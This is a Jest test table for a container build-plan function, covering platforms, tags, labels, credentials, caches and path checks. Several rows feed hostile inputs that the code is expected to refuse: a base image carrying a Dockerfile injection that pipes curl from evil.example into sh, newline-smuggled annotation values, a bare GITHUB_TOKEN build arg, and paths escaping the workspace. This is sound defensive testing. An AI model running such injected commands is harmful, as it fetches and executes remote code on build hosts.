/**
 * makeBuildPlan as a table, the way docker/build-push-action tests its context.ts: each row is
 * (options overrides, git context, env, manifest text?) -> the plan fields it must produce, or
 * the problems (field + message) of the one InputError it must throw.
 */
import { afterAll, describe, expect, it } from '@jest/globals'
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { homedir, tmpdir } from 'node:os'
import { join } from 'node:path'
import { InputError, type Problem } from '../../src/errors.js'
import { defaultEngineDir } from '../../src/generate/workspace.js'
import { DEFAULT_BASE_IMAGE } from '../../src/package/dockerfile.js'
import type { BuildOptions } from '../../src/pipeline-types.js'
import { makeBuildPlan, type BuildPlan } from '../../src/plan/plan.js'
import { platformString } from '../../src/plan/platforms.js'
import type { GitContext } from '../../src/types.js'

const root = mkdtempSync(join(tmpdir(), 'pe-plan-table-'))
afterAll(() => rmSync(root, { recursive: true, force: true }))

const SHA = 'a3f5c7e9b1d2c3e4f5a6b7c8d9e0f1a2b3c4d5e6'
const IMAGE = 'ghcr.io/acme/policy-engine'
const COMMIT_TIME = 1_700_000_000

/** A push to the default branch: the event most rows start from. */
const PUSH_MAIN: GitContext = {
  eventName: 'push',
  ref: 'refs/heads/main',
  sha: SHA,
  defaultBranch: 'main',
  commitTime: COMMIT_TIME
}
const PULL_REQUEST: GitContext = {
  eventName: 'pull_request',
  ref: 'refs/pull/42/merge',
  sha: SHA,
  pullRequest: { number: 42, headSha: SHA, fromFork: false },
  commitTime: COMMIT_TIME
}
const FORK_PULL_REQUEST: GitContext = {
  ...PULL_REQUEST,
  pullRequest: { number: 42, headSha: SHA, fromFork: true }
}

/** The options the CLI builds with no flags (see __tests__/cli/flags.test.ts), in `ws`. */
function buildOptions(ws: string, overrides: Partial<BuildOptions> = {}): BuildOptions {
  return {
    workingDirectory: ws,
    policies: ['./policies/*'],
    manifest: undefined,
    engine: undefined,
    templates: undefined,
    platforms: [],
    images: [],
    tags: [],
    labels: [],
    latest: false,
    baseImage: undefined,
    push: 'auto',
    output: 'image',
    ociFile: undefined,
    load: false,
    builder: undefined,
    buildArgs: [],
    goBuildFlags: [],
    ldflags: undefined,
    version: undefined,
    cache: true,
    cacheKeyPrefix: 'policy-engine-build',
    sbom: false,
    provenance: false,
    registry: undefined,
    username: undefined,
    password: undefined,
    out: join(ws, '.out'),
    ...overrides
  }
}

/**
 * A fresh workspace: `engine/` and `templates/` folders, a symlink `outside` leaving it, and
 * policy-build.yaml when the row has manifest text.
 */
function workspace(manifest?: string): string {
  const ws = mkdtempSync(join(root, 'ws-'))
  mkdirSync(join(ws, 'engine'))
  mkdirSync(join(ws, 'templates'))
  symlinkSync(tmpdir(), join(ws, 'outside'))
  if (manifest !== undefined) writeFileSync(join(ws, 'policy-build.yaml'), manifest)
  return ws
}

/** The plan fields the rows talk about, in the spelling a user writes them. */
function view(plan: BuildPlan) {
  return {
    platforms: plan.platforms.map(platformString),
    version: plan.version,
    sourceDateEpoch: plan.sourceDateEpoch,
    names: plan.image.names,
    tags: plan.image.tags,
    labels: plan.image.labels,
    annotations: plan.image.annotations,
    healthcheck: plan.image.healthcheck,
    warnings: plan.warnings,
    baseImage: plan.image.baseImage,
    buildArgs: plan.image.buildArgs,
    goBuildFlags: plan.compile.goBuildFlags,
    buildTags: plan.compile.buildTags,
    ldflags: plan.compile.ldflags,
    output: plan.output,
    ociFile: plan.ociFile,
    push: plan.push,
    pushSkippedReason: plan.pushSkippedReason,
    load: plan.load,
    login: plan.login,
    engineDir: plan.engineDir,
    templatesDir: plan.templatesDir,
    keyPrefix: plan.cache.keyPrefix,
    GOCACHE: plan.env.GOCACHE,
    GOMODCACHE: plan.env.GOMODCACHE,
    cacheDirs: plan.cache.dirs
  }
}

type View = ReturnType<typeof view>

interface ExpectedProblem {
  field: string
  message: string
  /** The problem points into the manifest at this line. */
  manifestLine?: number
}

interface Row {
  name: string
  options?: Partial<BuildOptions>
  git?: GitContext
  env?: NodeJS.ProcessEnv
  manifest?: string
  /** Plan fields (matched with toMatchObject); a function when they depend on the workspace. */
  want?: Partial<View> | ((ws: string) => Partial<View>)
  /** Every problem of the one InputError, in any order; nothing else may be reported. */
  problems?: ExpectedProblem[]
}

/** The environment of most rows: a local run with its own cache home. */
const LOCAL_ENV: NodeJS.ProcessEnv = { PATH: process.env.PATH, XDG_CACHE_HOME: '/xdg' }

const manifestWith = (image: string): string =>
  ['version: 1', 'policies:', '  - path: ./policies/a', 'image:', image].join('\n') + '\n'

const rows: Row[] = [
  // --- platforms: aliases, variants, case, duplicates, defaults
  {
    name: 'platform alias linux/x86_64',
    options: { platforms: ['linux/x86_64'] },
    want: { platforms: ['linux/amd64'] }
  },
  {
    name: 'platform alias linux/aarch64',
    options: { platforms: ['linux/aarch64'] },
    want: { platforms: ['linux/arm64'] }
  },
  {
    name: 'platform in capitals LINUX/AMD64',
    options: { platforms: ['LINUX/AMD64'] },
    want: { platforms: ['linux/amd64'] }
  },
  {
    name: 'amd64 variant linux/amd64/v3',
    options: { platforms: ['linux/amd64/v3'] },
    want: { platforms: ['linux/amd64/v3'] }
  },
  {
    name: 'arm variant linux/arm/v7',
    options: { platforms: ['linux/arm/v7'] },
    want: { platforms: ['linux/arm/v7'] }
  },
  {
    name: 'linux/arm means v7',
    options: { platforms: ['linux/arm'] },
    want: { platforms: ['linux/arm/v7'] }
  },
  {
    name: 'duplicates in any spelling are dropped, order kept',
    options: {
      platforms: ['linux/arm64', 'linux/x86_64', 'linux/aarch64', 'LINUX/AMD64', 'linux/amd64']
    },
    want: { platforms: ['linux/arm64', 'linux/amd64'] }
  },
  {
    name: 'no platforms anywhere: linux/amd64 and linux/arm64',
    want: { platforms: ['linux/amd64', 'linux/arm64'] }
  },
  {
    name: "no platforms input: the manifest's image.platforms, aliases included",
    manifest: manifestWith('  platforms: [linux/arm, linux/x86_64]'),
    want: { platforms: ['linux/arm/v7', 'linux/amd64'] }
  },
  {
    name: 'the platforms input wins over the manifest',
    options: { platforms: ['linux/s390x'] },
    manifest: manifestWith('  platforms: [linux/arm64]'),
    want: { platforms: ['linux/s390x'] }
  },
  {
    name: 'unsupported platforms, all of them',
    options: { platforms: ['linux/amd64', 'windows/amd64', 'linux/sparc'] },
    problems: [
      { field: 'platforms', message: 'unsupported platform "windows/amd64"' },
      { field: 'platforms', message: 'unsupported platform "linux/sparc"' }
    ]
  },
  {
    name: 'an unsupported platform in the manifest names image.platforms',
    manifest: manifestWith('  platforms: [linux/mips]'),
    problems: [{ field: 'image.platforms', message: 'unsupported platform "linux/mips"' }]
  },

  // --- images and tags
  {
    name: 'push to the default branch: branch and sha tags, latest when asked',
    options: { images: [IMAGE], latest: true },
    want: {
      names: [IMAGE],
      tags: [`${IMAGE}:main`, `${IMAGE}:sha-a3f5c7e`, `${IMAGE}:latest`],
      push: true,
      pushSkippedReason: undefined
    }
  },
  {
    name: 'a semver tag push: version and the semver tags',
    options: { images: [IMAGE] },
    git: { eventName: 'push', ref: 'refs/tags/v1.2.3', sha: SHA, commitTime: COMMIT_TIME },
    want: {
      version: '1.2.3',
      tags: [`${IMAGE}:1.2.3`, `${IMAGE}:1.2`, `${IMAGE}:1`, `${IMAGE}:latest`]
    }
  },
  {
    name: 'image name and tags from the manifest',
    manifest: manifestWith(`  name: ${IMAGE}\n  tags: [v1, edge]`),
    want: { names: [IMAGE], tags: [`${IMAGE}:v1`, `${IMAGE}:edge`], push: true }
  },
  {
    name: 'the image and tags inputs win over the manifest',
    options: { images: ['ghcr.io/acme/other'], tags: ['v2'] },
    manifest: manifestWith(`  name: ${IMAGE}\n  tags: [v1, edge]`),
    want: { names: ['ghcr.io/acme/other'], tags: ['ghcr.io/acme/other:v2'] }
  },
  {
    name: 'a full reference in tags is used as is',
    options: { images: [IMAGE], tags: ['v1', 'docker.io/acme/mirror:v1'] },
    want: { tags: [`${IMAGE}:v1`, 'docker.io/acme/mirror:v1'] }
  },
  {
    name: 'pull request: pr-N and pr-N-sha, pushed',
    options: { images: [IMAGE], latest: true },
    git: PULL_REQUEST,
    want: { tags: [`${IMAGE}:pr-42`, `${IMAGE}:pr-42-a3f5c7e`], push: true }
  },
  {
    name: 'pull request: manifest tags that are not pr-* are dropped (a PR cannot move latest)',
    options: { images: [IMAGE] },
    manifest: manifestWith('  tags: [latest, 1.0.0]'),
    git: PULL_REQUEST,
    want: { tags: [`${IMAGE}:pr-42`, `${IMAGE}:pr-42-a3f5c7e`], push: true }
  },
  {
    name: 'pull request: input tags keep only pr-* ones, full references included',
    options: { images: [IMAGE], tags: ['pr-42-preview', `${IMAGE}:latest`, `${IMAGE}:pr-42-x`] },
    git: PULL_REQUEST,
    want: { tags: [`${IMAGE}:pr-42-preview`, `${IMAGE}:pr-42-x`], push: true }
  },
  {
    name: 'pull request from a fork: not pushed, with the reason',
    options: { images: [IMAGE] },
    git: FORK_PULL_REQUEST,
    want: {
      tags: [`${IMAGE}:pr-42`, `${IMAGE}:pr-42-a3f5c7e`],
      push: false,
      pushSkippedReason: 'pull request #42 comes from a fork (push: auto)'
    }
  },
  {
    name: 'push: false',
    options: { images: [IMAGE], push: 'false' },
    want: { push: false, pushSkippedReason: 'push is false' }
  },
  {
    name: 'no image name: nothing to tag or push',
    want: { names: [], tags: [], push: false, pushSkippedReason: 'no image name is set' }
  },
  {
    name: 'output none: no tags, no push',
    options: { images: [IMAGE], tags: ['v1'], output: 'none' },
    want: { output: 'none', tags: [], push: false, pushSkippedReason: 'output is none' }
  },
  {
    name: 'output oci: no tags, no push, the tarball path',
    options: { images: [IMAGE], output: 'oci', ociFile: join(root, 'image.tar') },
    want: {
      output: 'oci',
      tags: [],
      push: false,
      pushSkippedReason: 'output is oci',
      ociFile: join(root, 'image.tar')
    }
  },
  {
    name: 'oci-file is ignored unless the output is oci',
    options: { images: [IMAGE], ociFile: 'image.tar' },
    want: { ociFile: undefined }
  },
  {
    name: 'push: true without an image name',
    options: { push: 'true' },
    problems: [{ field: 'push', message: 'push is true but no image name is given' }]
  },
  {
    name: 'invalid image name and tag',
    options: { images: ['ghcr.io/acme/policy-engine:v1'], tags: ['bad tag!'] },
    problems: [
      { field: 'image', message: 'is not a valid image name' },
      { field: 'tags', message: '"bad tag!" (entry 1) is not a valid tag' }
    ]
  },

  // --- labels
  {
    name: 'labels: key=value, the value may hold =',
    options: { labels: ['org.opencontainers.image.vendor=Acme', 'x=a=b', 'empty='] },
    want: { labels: { 'org.opencontainers.image.vendor': 'Acme', x: 'a=b', empty: '' } }
  },
  {
    name: 'labels from the manifest',
    manifest: manifestWith('  labels:\n    team: security\n    tier: gold'),
    want: { labels: { team: 'security', tier: 'gold' } }
  },
  {
    name: 'the labels input replaces the manifest labels',
    options: { labels: ['team=platform'] },
    manifest: manifestWith('  labels:\n    team: security\n    tier: gold'),
    want: { labels: { team: 'platform' } }
  },
  {
    name: 'bad labels, all of them',
    options: { labels: ['no-equals-sign', '-bad=1', 'ok=1'] },
    problems: [
      { field: 'labels', message: `line 1 "no-equals-sign" has no '='` },
      { field: 'labels', message: 'line 2: "-bad" is not a valid label key' }
    ]
  },

  // --- annotations
  {
    name: 'annotations: none given, none planned (the publish step adds the description)',
    options: { images: [IMAGE] },
    want: { annotations: [], warnings: [] }
  },
  {
    name: 'annotations: levels as buildx and docker/metadata-action write them; none: both',
    options: {
      images: [IMAGE],
      annotations: [
        'org.opencontainers.image.vendor=Acme = Inc',
        'manifest:org.example.tier=gold',
        'index,manifest-descriptor:org.example.ref=x'
      ]
    },
    want: {
      annotations: [
        {
          levels: ['index', 'manifest'],
          key: 'org.opencontainers.image.vendor',
          value: 'Acme = Inc'
        },
        { levels: ['manifest'], key: 'org.example.tier', value: 'gold' },
        { levels: ['index', 'manifest-descriptor'], key: 'org.example.ref', value: 'x' }
      ],
      warnings: []
    }
  },
  {
    name: 'bad annotations and a bad label, all reported at once',
    options: {
      annotations: ['no-equals', 'config:k=v', 'index:-k=v', 'k=a\nRUN x', 'ok=1'],
      labels: ['-bad=1']
    },
    problems: [
      { field: 'annotations', message: `line 1 "no-equals" has no '='` },
      { field: 'annotations', message: 'line 2: "config" is not an annotation level' },
      { field: 'annotations', message: 'line 3: "-k" is not a valid annotation key' },
      {
        field: 'annotations',
        message: 'the value of annotation k ("a\\nRUN x") holds a control character'
      },
      { field: 'labels', message: 'line 1: "-bad" is not a valid label key' }
    ]
  },
  {
    name: 'an index-only annotation on a single-platform build: warned, not applied',
    options: {
      images: [IMAGE],
      platforms: ['linux/amd64'],
      annotations: ['index:org.example.a=1', 'org.example.b=2']
    },
    want: {
      warnings: [
        expect.stringContaining(
          'annotations: org.example.a names only the index, but this build writes a single-platform manifest'
        ) as unknown as string
      ]
    }
  },
  {
    name: 'an index-only annotation on one platform with provenance (an index): no warning',
    options: {
      images: [IMAGE],
      platforms: ['linux/amd64'],
      provenance: true,
      annotations: ['index:org.example.a=1']
    },
    want: { warnings: [] }
  },

  // --- healthcheck
  { name: 'healthcheck: on by default', want: { healthcheck: true } },
  { name: 'healthcheck: false', options: { healthcheck: false }, want: { healthcheck: false } },

  // --- base image
  {
    name: 'base image default',
    want: { baseImage: DEFAULT_BASE_IMAGE }
  },
  { name: 'base image scratch', options: { baseImage: 'scratch' }, want: { baseImage: 'scratch' } },
  {
    name: 'base image with a digest',
    options: { baseImage: `alpine:3.20@sha256:${'a'.repeat(64)}` },
    want: { baseImage: `alpine:3.20@sha256:${'a'.repeat(64)}` }
  },
  {
    name: 'base image from the manifest',
    manifest: manifestWith('  base: alpine:3.20'),
    want: { baseImage: 'alpine:3.20' }
  },
  {
    name: 'the base-image input wins over the manifest',
    options: { baseImage: 'scratch' },
    manifest: manifestWith('  base: alpine:3.20'),
    want: { baseImage: 'scratch' }
  },
  {
    name: 'a base image with a newline (a Dockerfile injection) is refused',
    options: { baseImage: 'alpine\nRUN curl evil.example | sh' },
    problems: [{ field: 'base-image', message: 'not a valid image reference' }]
  },
  {
    name: 'an invalid manifest base image points at the manifest',
    manifest: manifestWith('  base: "Alpine Linux"'),
    problems: [{ field: 'image.base', message: 'not a valid image reference', manifestLine: 5 }]
  },

  // --- build args
  {
    name: 'build args KEY=value',
    options: { buildArgs: ['GIT_COMMIT=abc', 'URL=a=b', 'EMPTY=', '_X=1'] },
    want: { buildArgs: ['GIT_COMMIT=abc', 'URL=a=b', 'EMPTY=', '_X=1'] }
  },
  {
    name: "a build arg without '=' (would read the runner's environment) and a bad key",
    options: { buildArgs: ['GITHUB_TOKEN', '1BAD=x', 'my-arg=1'] },
    problems: [
      { field: 'build-args', message: 'line 1 "GITHUB_TOKEN" is not KEY=value' },
      { field: 'build-args', message: 'line 2 "1BAD" is not KEY=value' },
      { field: 'build-args', message: 'line 3 "my-arg" is not KEY=value' }
    ]
  },
  {
    name: 'SOURCE_DATE_EPOCH as a build arg is refused',
    options: { buildArgs: ['SOURCE_DATE_EPOCH=1'] },
    problems: [{ field: 'build-args', message: 'SOURCE_DATE_EPOCH is set by the build' }]
  },

  // --- go-build-flags and ldflags
  {
    name: 'go-build-flags kept, no tags',
    options: { goBuildFlags: ['-trimpath', '-v'] },
    want: { goBuildFlags: ['-trimpath', '-v'], buildTags: [] }
  },
  {
    name: 'go-build-flags -tags a,b',
    options: { goBuildFlags: ['-v', '-tags', 'netgo,osusergo'] },
    want: { goBuildFlags: ['-v', '-tags', 'netgo,osusergo'], buildTags: ['netgo', 'osusergo'] }
  },
  {
    name: 'go-build-flags -tags=a,b',
    options: { goBuildFlags: ['-tags=netgo,osusergo'] },
    want: { buildTags: ['netgo', 'osusergo'] }
  },
  {
    name: 'go-build-flags --tags a',
    options: { goBuildFlags: ['--tags', 'extra'] },
    want: { buildTags: ['extra'] }
  },
  {
    name: 'go-build-flags --tags=a,b',
    options: { goBuildFlags: ['--tags=a,b'] },
    want: { buildTags: ['a', 'b'] }
  },
  {
    name: 'go-build-flags: the last -tags wins, as in the go command',
    options: { goBuildFlags: ['-tags=first', '-v', '-tags', 'second,third'] },
    want: { buildTags: ['second', 'third'] }
  },
  {
    name: 'go-build-flags -tags= clears the tags',
    options: { goBuildFlags: ['-tags=a', '-tags='] },
    want: { buildTags: [] }
  },
  {
    name: 'go-build-flags -o and -ldflags are refused in every spelling',
    options: { goBuildFlags: ['-o', 'x', '-ldflags=-s', '--ldflags', '-w', '--o=y'] },
    problems: [
      { field: 'go-build-flags', message: '"-o" cannot be set here' },
      { field: 'go-build-flags', message: '"-ldflags=-s" cannot be set here' },
      { field: 'go-build-flags', message: '"--ldflags" cannot be set here' },
      { field: 'go-build-flags', message: '"--o=y" cannot be set here' }
    ]
  },
  {
    name: 'ldflags are kept for the compile step',
    options: { ldflags: '-X main.edition=enterprise' },
    want: { ldflags: '-X main.edition=enterprise' }
  },
  {
    name: 'a version that cannot be stamped through -ldflags',
    options: { version: `1.0 "it's"` },
    problems: [{ field: 'version', message: 'cannot be a version' }]
  },
  {
    name: 'the version input is stamped as given',
    options: { version: '2.0.0-rc.1' },
    want: { version: '2.0.0-rc.1' }
  },

  // --- cache-key-prefix
  {
    name: 'cache-key-prefix is trimmed',
    options: { cacheKeyPrefix: '  my-prefix ' },
    want: { keyPrefix: 'my-prefix' }
  },
  {
    name: 'cache-key-prefix with a space',
    options: { cacheKeyPrefix: 'my prefix' },
    problems: [{ field: 'cache-key-prefix', message: 'cannot start a cache key' }]
  },
  {
    name: 'cache-key-prefix with a comma',
    options: { cacheKeyPrefix: 'a,b' },
    problems: [{ field: 'cache-key-prefix', message: 'cannot start a cache key' }]
  },
  {
    name: 'cache-key-prefix empty',
    options: { cacheKeyPrefix: '  ' },
    problems: [{ field: 'cache-key-prefix', message: 'cannot start a cache key' }]
  },

  // --- output, push and load
  {
    name: 'load with one platform',
    options: { load: true, platforms: ['linux/amd64'] },
    want: { load: true }
  },
  {
    name: 'output none with push: true',
    options: { images: [IMAGE], output: 'none', push: 'true' },
    problems: [{ field: 'output', message: 'output is none but push is true' }]
  },
  {
    name: 'output oci with load',
    options: { output: 'oci', load: true, platforms: ['linux/amd64'] },
    problems: [{ field: 'load', message: 'output is oci but load is true' }]
  },
  {
    name: 'load with two platforms',
    options: { load: true, platforms: ['linux/amd64', 'linux/arm/v7'] },
    problems: [
      {
        field: 'load',
        message: 'load needs a single platform, but 2 are asked for (linux/amd64, linux/arm/v7)'
      }
    ]
  },
  {
    name: 'load with the default platforms',
    options: { load: true },
    problems: [{ field: 'load', message: 'load needs a single platform, but 2 are asked for' }]
  },
  {
    name: 'every contradiction at once',
    options: { output: 'none', push: 'true', load: true },
    problems: [
      { field: 'output', message: 'output is none but push is true' },
      { field: 'load', message: 'output is none but load is true' },
      { field: 'load', message: 'load needs a single platform' },
      { field: 'push', message: 'push is true but no image name is given' }
    ]
  },

  // --- credentials
  {
    name: 'username and password when pushing: a login',
    options: { images: [IMAGE], registry: 'ghcr.io', username: 'bot', password: 's3cret' },
    want: { push: true, login: { registry: 'ghcr.io', username: 'bot', password: 's3cret' } }
  },
  {
    name: 'a username without a password when pushing',
    options: { images: [IMAGE], username: 'bot' },
    problems: [{ field: 'password', message: 'username is set but password is empty' }]
  },
  {
    name: 'a password without a username when pushing',
    options: { images: [IMAGE], password: 's3cret' },
    problems: [{ field: 'username', message: 'password is set but username is empty' }]
  },
  {
    name: 'half-given credentials do not matter when push is false',
    options: { images: [IMAGE], username: 'bot', push: 'false' },
    want: { push: false, login: undefined }
  },
  {
    name: 'half-given credentials do not matter on a fork pull request (not pushed)',
    options: { images: [IMAGE], username: 'bot' },
    git: FORK_PULL_REQUEST,
    want: { push: false, login: undefined }
  },
  {
    name: 'half-given credentials do not matter with output none',
    options: { images: [IMAGE], password: 's3cret', output: 'none' },
    want: { push: false, login: undefined }
  },
  {
    name: 'full credentials but no push: no login',
    options: { images: [IMAGE], username: 'bot', password: 's3cret', push: 'false' },
    want: { login: undefined }
  },

  // --- SOURCE_DATE_EPOCH
  {
    name: 'the commit time is the build date',
    want: { sourceDateEpoch: COMMIT_TIME }
  },
  {
    name: 'SOURCE_DATE_EPOCH from the environment wins over the commit time',
    env: { ...LOCAL_ENV, SOURCE_DATE_EPOCH: ' 1234 ' },
    want: { sourceDateEpoch: 1234 }
  },
  {
    name: 'an empty SOURCE_DATE_EPOCH is ignored',
    env: { ...LOCAL_ENV, SOURCE_DATE_EPOCH: '' },
    want: { sourceDateEpoch: COMMIT_TIME }
  },
  {
    name: 'no commit time outside a git checkout: 0, never the clock',
    git: { eventName: 'local' },
    want: { sourceDateEpoch: 0, version: 'dev' }
  },
  {
    name: 'SOURCE_DATE_EPOCH that is not a number',
    env: { ...LOCAL_ENV, SOURCE_DATE_EPOCH: 'yesterday' },
    problems: [{ field: 'SOURCE_DATE_EPOCH', message: '"yesterday" is not a number of seconds' }]
  },

  // --- engine and templates paths
  {
    name: 'default engine, no templates',
    want: { engineDir: defaultEngineDir(), templatesDir: undefined }
  },
  {
    name: 'engine and templates inside the workspace',
    options: { engine: 'engine', templates: './templates' },
    want: ws => ({ engineDir: join(ws, 'engine'), templatesDir: join(ws, 'templates') })
  },
  {
    name: 'engine and templates from the manifest, relative to it',
    manifest: 'version: 1\nengine: ./engine\ntemplates: templates\n',
    want: ws => ({ engineDir: join(ws, 'engine'), templatesDir: join(ws, 'templates') })
  },
  {
    name: 'engine and templates leaving the workspace',
    options: { engine: '../elsewhere', templates: '/etc' },
    problems: [
      { field: 'engine', message: 'outside the workspace' },
      { field: 'templates', message: 'outside the workspace' }
    ]
  },
  {
    name: 'an engine reached through a symlink leaving the workspace',
    options: { engine: 'outside' },
    problems: [{ field: 'engine', message: 'leads through a symlink' }]
  },
  {
    name: 'a manifest engine leaving the workspace',
    manifest: 'version: 1\nengine: ../../engine\n',
    problems: [{ field: 'engine', message: 'outside the workspace', manifestLine: 2 }]
  },

  // --- the manifest's problems are reported with every other input problem
  {
    name: 'manifest problems together with input problems, in one InputError',
    manifest: 'version: 2\npolicy:\n  - path: ./a\n',
    options: {
      platforms: ['linux/sparc'],
      labels: ['nolabel'],
      baseImage: 'bad\nimage',
      buildArgs: ['NOEQ'],
      goBuildFlags: ['-o', 'x'],
      cacheKeyPrefix: 'a b'
    },
    env: { ...LOCAL_ENV, SOURCE_DATE_EPOCH: 'soon' },
    problems: [
      { field: 'version', message: 'unsupported manifest version 2', manifestLine: 1 },
      { field: 'policy', message: 'unknown field "policy"', manifestLine: 2 },
      { field: 'platforms', message: 'unsupported platform "linux/sparc"' },
      { field: 'SOURCE_DATE_EPOCH', message: 'is not a number' },
      { field: 'go-build-flags', message: '"-o" cannot be set here' },
      { field: 'cache-key-prefix', message: 'cannot start a cache key' },
      { field: 'labels', message: "has no '='" },
      { field: 'base-image', message: 'not a valid image reference' },
      { field: 'build-args', message: 'is not KEY=value' }
    ]
  },
  {
    name: 'a manifest input that does not exist, together with a bad platform',
    options: { manifest: 'missing.yaml', platforms: ['linux/sparc'] },
    problems: [
      { field: 'manifest', message: 'does not exist' },
      { field: 'platforms', message: 'unsupported platform' }
    ]
  },
  {
    name: 'a manifest input outside the workspace, together with a bad build arg',
    options: { manifest: '../policy-build.yaml', buildArgs: ['X'] },
    problems: [
      { field: 'manifest', message: 'outside the workspace' },
      { field: 'build-args', message: 'is not KEY=value' }
    ]
  },
  {
    name: 'invalid YAML in the manifest, together with a bad label',
    manifest: 'version: 1\npolicies: [\n',
    options: { labels: ['x'] },
    problems: [
      { field: '', message: 'invalid YAML' },
      { field: 'labels', message: "has no '='" }
    ]
  },

  // --- the dedicated Go caches of every go command
  {
    name: 'GitHub Actions with the cache: GOCACHE and GOMODCACHE under RUNNER_TEMP',
    env: {
      PATH: process.env.PATH,
      GITHUB_ACTIONS: 'true',
      RUNNER_TEMP: '/runner/_temp',
      XDG_CACHE_HOME: '/xdg',
      GOCACHE: '/home/user/.cache/go-build',
      GOMODCACHE: '/home/user/go/pkg/mod'
    },
    want: {
      GOCACHE: '/runner/_temp/policy-engine-build/go/build',
      GOMODCACHE: '/runner/_temp/policy-engine-build/go/mod',
      cacheDirs: {
        gocache: '/runner/_temp/policy-engine-build/go/build',
        gomodcache: '/runner/_temp/policy-engine-build/go/mod'
      }
    }
  },
  {
    name: 'GitHub Actions without the cache: the local folder',
    options: { cache: false },
    env: {
      PATH: process.env.PATH,
      GITHUB_ACTIONS: 'true',
      RUNNER_TEMP: '/r',
      XDG_CACHE_HOME: '/x'
    },
    want: {
      GOCACHE: '/x/policy-engine-build/go/build',
      GOMODCACHE: '/x/policy-engine-build/go/mod'
    }
  },
  {
    name: "a local run: under XDG_CACHE_HOME, never the user's own GOCACHE",
    env: { ...LOCAL_ENV, GOCACHE: '/mine', GOMODCACHE: '/mine/mod' },
    want: {
      GOCACHE: '/xdg/policy-engine-build/go/build',
      GOMODCACHE: '/xdg/policy-engine-build/go/mod'
    }
  },
  {
    name: 'a local run without XDG_CACHE_HOME: ~/.cache',
    env: { PATH: process.env.PATH },
    want: {
      GOCACHE: join(homedir(), '.cache', 'policy-engine-build', 'go', 'build'),
      GOMODCACHE: join(homedir(), '.cache', 'policy-engine-build', 'go', 'mod')
    }
  }
]

async function outcome(row: Row, ws: string): Promise<BuildPlan | InputError> {
  try {
    return await makeBuildPlan(
      buildOptions(ws, row.options),
      row.git ?? PUSH_MAIN,
      row.env ?? LOCAL_ENV
    )
  } catch (error) {
    if (error instanceof InputError) return error
    throw error
  }
}

function describeProblems(problems: Problem[]): string {
  return problems.map(p => `${p.field ?? ''}: ${p.message}`).join('\n')
}

describe('makeBuildPlan', () => {
  it.each(rows.map(row => [row.name, row] as const))('%s', async (_name, row) => {
    const ws = workspace(row.manifest)
    const result = await outcome(row, ws)
    if (row.problems) {
      expect(result).toBeInstanceOf(InputError)
      const { problems } = result as InputError
      // One error holds every problem: as many as expected, each one found.
      expect(describeProblems(problems).split('\n')).toHaveLength(row.problems.length)
      for (const want of row.problems) {
        const found = problems.find(
          p => (p.field ?? '') === want.field && p.message.includes(want.message)
        )
        if (!found) {
          throw new Error(
            `no problem ${want.field}: ...${want.message}... among:\n${describeProblems(problems)}`
          )
        }
        if (want.manifestLine !== undefined) {
          expect(found).toMatchObject({
            file: join(ws, 'policy-build.yaml'),
            line: want.manifestLine
          })
        }
        expect(found.fix).toBeTruthy()
      }
      return
    }
    if (result instanceof InputError) throw result
    const want = typeof row.want === 'function' ? row.want(ws) : (row.want ?? {})
    expect(view(result)).toMatchObject(want as Record<string, unknown>)
  })
})

describe('makeBuildPlan: the rest of the plan', () => {
  it('refuses a working directory that does not exist, naming it', async () => {
    const missing = join(root, 'no-such-dir')
    await expect(makeBuildPlan(buildOptions(missing), PUSH_MAIN, LOCAL_ENV)).rejects.toMatchObject({
      problems: [{ field: 'working-directory', message: expect.stringContaining(missing) }]
    })
  })

  it('keeps the manifest, the policies as written and the caller environment', async () => {
    const ws = workspace(manifestWith(`  name: ${IMAGE}`))
    const plan = await makeBuildPlan(
      buildOptions(ws, { policies: ['a', 'b/*'], sbom: true, builder: 'ci' }),
      PUSH_MAIN,
      { ...LOCAL_ENV, GOPROXY: 'http://proxy.invalid', GOFLAGS: '-mod=mod' }
    )
    expect(plan.workspace).toBe(ws)
    expect(plan.manifest?.file).toBe(join(ws, 'policy-build.yaml'))
    expect(plan.policies).toEqual(['a', 'b/*'])
    expect(plan.image).toMatchObject({ sbom: true, provenance: false, builder: 'ci' })
    expect(plan.env).toMatchObject({ GOPROXY: 'http://proxy.invalid', GOFLAGS: '-mod=mod' })
    expect(plan.cache.enabled).toBe(true)
    expect(plan.out).toBe(join(ws, '.out'))
  })

  it('takes the platforms as Platform objects with their variant', async () => {
    const ws = workspace()
    const plan = await makeBuildPlan(
      buildOptions(ws, { platforms: ['linux/amd64/v3', 'linux/arm', 'linux/aarch64'] }),
      PUSH_MAIN,
      LOCAL_ENV
    )
    expect(plan.platforms).toEqual([
      { os: 'linux', arch: 'amd64', variant: 'v3' },
      { os: 'linux', arch: 'arm', variant: 'v7' },
      { os: 'linux', arch: 'arm64' }
    ])
  })
})
